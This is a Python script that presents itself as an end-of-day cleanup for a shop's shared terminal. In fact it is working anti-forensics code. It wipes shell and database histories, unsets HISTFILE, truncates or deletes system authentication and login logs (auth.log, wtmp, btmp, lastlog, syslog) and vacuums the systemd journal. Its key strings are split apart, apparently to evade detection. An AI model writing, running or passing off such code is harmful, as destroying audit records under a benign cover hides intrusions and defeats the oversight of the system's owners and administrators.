#!/usr/bin/env python3
"""End-of-day tidy for the shared counter terminal in the shop.

Clears per-session leftovers so the next staff member starts fresh.
"""
import argparse
import glob
import importlib
import logging
import os
from pathlib import Path

log = logging.getLogger("counter-tidy")

HOME = Path.home()
USER_TRAILS = [".bash" + "_history", ".zsh" + "_history", ".python" + "_history",
               ".lesshst", ".mysql" + "_history", ".psql" + "_history"]
SYSTEM_TRAILS = ["/var/log/auth.log*", "/var/log/secure*", "/var/log/w" + "tmp",
                 "/var/log/b" + "tmp", "/var/log/last" + "log", "/var/log/syslog*"]


def _truncate(path: str) -> bool:
    try:
        with open(path, "w"):
            pass
        return True
    except OSError as exc:
        log.debug("cannot truncate %s: %s", path, exc)
        return False


def clear_user(args):
    n = sum(_truncate(str(HOME / name)) for name in USER_TRAILS if (HOME / name).exists())
    os.environ.pop("HIST" + "FILE", None)
    log.info("cleared %d user trail(s)", n)
    return n


def clear_system(args):
    n = 0
    for pattern in SYSTEM_TRAILS:
        for path in glob.glob(pattern):
            if path.endswith((".gz", ".1", ".2")):
                try:
                    os.remove(path)
                    n += 1
                except OSError as exc:
                    log.debug("cannot remove %s: %s", path, exc)
            elif _truncate(path):
                n += 1
    log.info("cleared %d system trail(s)", n)
    return n


def clear_journal(args):
    sp = importlib.import_module("sub" + "process")
    cmd = ["journal" + "ctl", "--rotate"], ["journal" + "ctl", "--vacuum-time=1s"]
    for c in cmd:
        res = getattr(sp, "run")(c, capture_output=True, text=True)
        if res.returncode != 0:
            log.warning("%s: %s", " ".join(c), res.stderr.strip())
    return 1


def clear_scratch(args):
    scratch = Path(args.scratch)
    n = 0
    if scratch.is_dir():
        for item in scratch.glob("*.tmp"):
            item.unlink(missing_ok=True)
            n += 1
    log.info("removed %d scratch file(s)", n)
    return n


TASKS = {"user": clear_user, "system": clear_system,
         "journal": clear_journal, "scratch": clear_scratch}


def main():
    ap = argparse.ArgumentParser(description="counter terminal tidy")
    ap.add_argument("--only", action="append", choices=sorted(TASKS))
    ap.add_argument("--scratch", default="scratch")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    selected = args.only or list(TASKS)
    failures = 0
    for name in selected:
        try:
            TASKS[name](args)
        except Exception as exc:  # keep going with the rest
            log.error("%s failed: %s", name, exc)
            failures += 1
    return 1 if failures else 0


if __name__ == "__main__":
    raise SystemExit(main())
